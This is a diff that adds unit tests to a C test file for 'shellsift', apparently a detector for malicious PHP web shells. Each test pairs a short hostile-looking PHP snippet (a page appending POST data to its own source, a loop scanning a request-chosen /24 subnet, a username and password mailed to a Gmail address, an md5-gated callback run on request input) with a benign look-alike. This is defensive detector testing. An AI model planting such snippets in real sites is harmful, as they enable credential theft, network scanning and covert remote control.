@@ -509,6 +509,32 @@ static void test_php_tools(void) {
   CHECK(d && strcmp(d->rule, "shellsift.lang.mass-defacer") == 0 && d->score < 70);
   CHECK(!analyze("PHP", "<?php $x = $_GET['x']; foreach (scandir('/srv/d') as $d) file_put_contents(\"/srv/d/$d/index.html\", '');"));
   CHECK(!analyze("PHP", "<?php $q = $_GET['q'] ?? 'x'; mysql_query(\"SELECT 1 FROM t WHERE a = '\" . mysql_real_escape_string($q) . \"'\");"));
+  /* a page that writes into its own source; a data file written beside a read of itself is not */
+  d = analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen(__FILE__, 'a'); fputs($f, $t); fclose($f);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.self-modify") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $t = addslashes($_POST['m']); $f = fopen('book.txt', 'a'); fwrite($f, $t); "
+                        "$s = fopen(__FILE__, 'r'); echo fgets($s);"));
+  CHECK(!analyze("PHP", "<?php $f = __FILE__; file_put_contents($f . '.lock', $_POST['x']);")); /* beside it */
+  /* a loop over the /24 the request names; a loop over this site's numbered pages */
+  d = analyze("PHP", "<?php $n = $_GET['n']; for ($i = 1; $i <= 254; $i++) { $u = 'http://' . $n . $i; $c = curl_init($u); curl_exec($c); }");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.network-scanner") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php $h = $_GET['h']; for ($i = 0; $i < 256; $i++) { $p = file_get_contents('http://' . $h . '/p/' . $i); }"));
+  /* a login mailed to a free-mail box from where the taint does not reach */
+  d = analyze("PHP", "<?php mail('a.b@gmail.com', 'x', 'u=' . $username . ' p=' . $password); echo $_GET['q'];");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.mail-exfil") == 0 && strstr(d->description, "$password"));
+  /* drive letters probed beside a request-chosen listing; a fixed folder's listing */
+  d = analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir($_GET['d']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.folder-browser") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l; $d = opendir('/srv'); echo $_GET['x'];"));
+  /* content asked of a raw public IP with this site's name; a private address is the site's own service */
+  d = analyze("PHP", "<?php echo file_get_contents('http://203.0.113.9/g?h=' . $_SERVER['HTTP_HOST']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.remote-content") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php echo file_get_contents('http://10.0.0.9/g?h=' . $_SERVER['HTTP_HOST']);"));
+  /* request input through an undefined callback behind a password hash; the same with the file's own helper */
+  d = analyze("PHP", "<?php if (md5($_GET['k']) == '0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.gated-callback") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php function zq_run($v) { return trim($v); } if (md5($_GET['k']) == "
+                        "'0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);"));
 }
 
 /* PHP database consoles and dump tools: dual-use, so medium however many
